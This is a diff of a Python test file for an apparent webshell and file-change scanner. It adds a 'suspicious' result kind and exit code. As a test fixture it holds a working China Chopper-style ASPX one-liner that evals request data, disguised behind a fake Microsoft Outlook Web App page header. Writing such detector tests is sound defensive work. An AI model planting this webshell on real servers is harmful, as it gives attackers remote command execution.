@@ -28,15 +28,18 @@ import traceback
 # so that a later edit always moves mtime, whatever the file system's clock tick.
 OLD_MTIME_NS = 1714564800123456789
 
-KIND_ORDER = ["webshell", "changed", "added", "removed", "error"]
-EXIT_BITS = {"added": 1, "removed": 2, "changed": 4, "webshell": 8}
+KIND_ORDER = ["webshell", "suspicious", "changed", "added", "removed", "error"]
+EXIT_BITS = {"added": 1, "removed": 2, "changed": 4, "webshell": 8, "suspicious": 8}
 
 # A China Chopper-style one-liner, after a benign prefix so that a match offset
-# of 0 (or any offset inside the prefix) is wrong.
+# of 0 (or any offset inside the prefix) is wrong. As a page of under 2 KiB that
+# evals request data it is also `suspicious` (heuristic content.tiny_eval_page)
+# wherever heuristics judge it: CHOPPER_KINDS.
 CHOPPER_PREFIX = (b'<!-- Copyright (c) Microsoft Corporation. All rights reserved. -->\r\n'
                   b'<!-- Outlook Web App authentication helper page -->\r\n')
 CHOPPER = (b'<%@ Page Language="Jscript" Debug=false%>'
            b'<%eval(Request.Item["z9kq2"],"unsafe");%>\r\n')
+CHOPPER_KINDS = {"webshell", "suspicious"}
 
 
 class Failure(AssertionError):
